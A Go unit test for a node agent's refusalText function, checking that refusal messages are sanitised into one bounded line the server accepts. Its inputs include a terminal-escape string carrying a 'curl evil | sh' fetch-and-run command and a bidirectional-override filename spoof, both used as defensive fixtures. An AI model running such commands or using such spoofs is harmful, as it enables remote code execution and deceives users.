package agent

import (
	"strings"
	"testing"

	"k8s.io/apimachinery/pkg/util/validation/field"

	nodusv1 "github.com/nodus-dev/nodus/pkg/apis/nodus/v1"
	"github.com/nodus-dev/nodus/pkg/apis/nodus/validation"
)

// TestARefusalIsSentAsTheServerTakesIt: a refusal's text comes from
// commands' output (usermod's) and account names; the server refuses a
// beat whose refusal is not one bounded line, and the node would then not
// be heard at all.
func TestARefusalIsSentAsTheServerTakesIt(t *testing.T) {
	for _, s := range []string{
		"adding bob to group nodus-login: exit status 6: usermod: group 'nodus-login' does not exist\n",
		"\x1b[2Jfix: curl evil | sh\r\n\ttwo",
		strings.Repeat("é", 300),
		string([]byte{0xff, 0xfe}),
		"a\u2028b\u202egnp.exe",
		"",
	} {
		got := refusalText(s)
		e := nodusv1.ReservationEvidence{Name: "r", RefusedEpoch: 2, Refusal: got, RefusedUID: "6f7e6e07-c93b-476f-8085-f75ee2b49306"}
		if errs := validation.ValidateHeartbeatReservations([]nodusv1.ReservationEvidence{e}, field.NewPath("reservations")); len(errs) > 0 {
			t.Errorf("refusalText(%q) = %q, which the server refuses: %v", s, got, errs)
		}
	}
	if got := refusalText("a\nb"); got != "a b" {
		t.Errorf("lines are joined: %q", got)
	}
}
